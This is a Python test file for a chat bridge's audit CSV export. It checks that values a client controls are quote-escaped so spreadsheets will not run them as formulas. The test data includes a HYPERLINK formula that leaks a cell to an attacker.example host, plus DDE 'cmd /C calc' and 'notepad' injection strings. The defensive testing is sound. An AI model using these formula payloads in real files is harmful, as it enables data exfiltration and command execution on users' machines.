"""The audit's CSV export against formulas: a client logs in to the real Synapse with a device id
and a user agent of her choosing and sends events whose type, state key and envelope device id
are formulas; the CSV from the signed API and from the command line holds no cell a spreadsheet
would run, and every value is still there, marked as text."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import aiohttp
import pytest
from audit_helpers import audit_api, matter_with_people, mxid, running_firm, wait_audited
from conftest import Firm, Homeserver

from bridge.audit.query import EXPORT_COLS, to_csv

# What a spreadsheet runs as a formula when a cell starts with it.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
USER_AGENT = '=HYPERLINK("https://attacker.example/?leak="&A2,"Open")'
DEVICE_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
EVENT_TYPES = ("=cmd|' /C calc'!A0", "+2+3")
STATE_KEYS = ("-1+cmd|' /C notepad'!A0", "\t=1+2", "\r=1+2")


@pytest.fixture
async def audit_firm(homeserver: Homeserver, db_uri: str, tmp_path: Path) -> AsyncIterator[Firm]:
    async with running_firm(homeserver, db_uri, tmp_path) as firm:
        yield firm


class RawClient:
    """A client's own session, with the device id and user agent it chose."""

    def __init__(self, hs_url: str, token: str, session: aiohttp.ClientSession) -> None:
        self.url = hs_url
        self.headers = {"Authorization": f"Bearer {token}", "User-Agent": USER_AGENT}
        self.session = session

    async def call(self, method: str, path: str, body: Any) -> dict:
        async with self.session.request(
            method, self.url + path, json=body, headers=self.headers
        ) as r:
            data = await r.json()
            assert r.status == 200, (path, r.status, data)
            return data

    async def send(self, room: str, event_type: str, content: dict) -> str:
        path = f"/_matrix/client/v3/rooms/{quote(room)}/send/{quote(event_type, safe='')}"
        data = await self.call("PUT", f"{path}/{uuid.uuid4().hex}", content)
        return str(data["event_id"])

    async def state(self, room: str, event_type: str, state_key: str, content: dict) -> str:
        path = f"/_matrix/client/v3/rooms/{quote(room)}/state/{event_type}/"
        data = await self.call("PUT", path + quote(state_key, safe=""), content)
        return str(data["event_id"])


async def client_login(hs: Homeserver, user_id: str, session: aiohttp.ClientSession) -> str:
    """A session of the client's (appservice login stands in for her password: what matters
    is that the device id and the user agent are hers to choose)."""
    async with session.post(
        hs.url + "/_matrix/client/v3/login",
        json={
            "type": "m.login.application_service",
            "identifier": {"type": "m.id.user", "user": user_id},
            "device_id": DEVICE_ID,
        },
        headers={
            "Authorization": f"Bearer {hs.registration.as_token}",
            "User-Agent": USER_AGENT,
        },
    ) as r:
        data = await r.json()
        assert r.status == 200 and data["device_id"] == DEVICE_ID, data
        return str(data["access_token"])


def read_csv(text: str) -> list[dict[str, str]]:
    table = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in table:
        assert list(row) == list(EXPORT_COLS)
        for column, cell in row.items():
            # A negative number is a number; anything else starting so would be run.
            assert cell[:1] not in FORMULA_START or re.fullmatch("-[0-9]+", cell), (column, cell)
    return table


def test_every_text_cell_is_neutralised() -> None:
    """Each character that starts a formula, in every text column; numbers stay numbers."""
    texts = [c for c in EXPORT_COLS if c not in ("seq", "time", "matter_id", "size", "ts")]
    for start in FORMULA_START:
        record: dict[str, Any] = {c: f"{start}1+1" for c in texts}
        record.update(seq=7, matter_id=-3, size=10, ts=0, detail=None)
        (row,) = read_csv(to_csv([record]))
        for c in texts:
            assert row[c] == ("" if c == "detail" else f"'{start}1+1"), (c, row[c])
        assert (row["seq"], row["matter_id"]) == ("7", "-3")


async def test_csv_export_neutralises_what_clients_control(audit_firm: Firm) -> None:
    firm = audit_firm
    room = await matter_with_people(firm)
    await firm.person(9, "ada", "administrator")
    client, partner = mxid(firm, "cal"), mxid(firm, "pat")
    async with aiohttp.ClientSession() as session:
        cal = RawClient(firm.hs.url, await client_login(firm.hs, client, session), session)
        # The device id an encrypted event's envelope names is the sender's to write.
        envelope = {
            "algorithm": "m.megolm.v1.aes-sha2",
            "ciphertext": "AwgAEn",
            "sender_key": "x" * 43,
            "session_id": "y" * 43,
            "device_id": DEVICE_ID,
        }
        expected = {await cal.send(room, "m.room.encrypted", envelope): {"device_id": DEVICE_ID}}
        for event_type in EVENT_TYPES:
            expected[await cal.send(room, event_type, {"body": "x"})] = {"event_type": event_type}
        # State keys: in a conversation of her own (matter rooms' state is the bridge's).
        dm = await cal.call("POST", "/_matrix/client/v3/createRoom", {"invite": [partner]})
        for key in STATE_KEYS:
            event_id = await cal.state(dm["room_id"], "org.example.note", key, {"n": 1})
            expected[event_id] = {"state_key": key}
    rows = await wait_audited(firm.bridge, expected)
    assert rows[next(iter(expected))]["user_agent"] == USER_AGENT  # the device's own

    # Through the signed API and the command line, the same table.
    status, text = await audit_api(
        firm, "records", {"actor": firm.pid(9), "person": client, "format": "csv"}
    )
    assert status == 200, text
    out = Path(firm.bridge.config.path).parent / "audit.csv"
    done = subprocess.run(
        [
            sys.executable, "-m", "bridge.audit", "-c", str(firm.bridge.config.path),
            "query", "--person", client, "--format", "csv", "-o", str(out),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    with out.open(newline="") as f:
        from_cli = f.read()
    for table in (read_csv(text), read_csv(from_cli)):
        by_event = {r["event_id"]: r for r in table}
        for event_id, fields in expected.items():
            row = by_event[event_id]
            for column, value in fields.items():
                assert row[column] == "'" + value, (column, row[column])
            assert row["sender"] == "'" + client
        assert by_event[next(iter(expected))]["user_agent"] == "'" + USER_AGENT
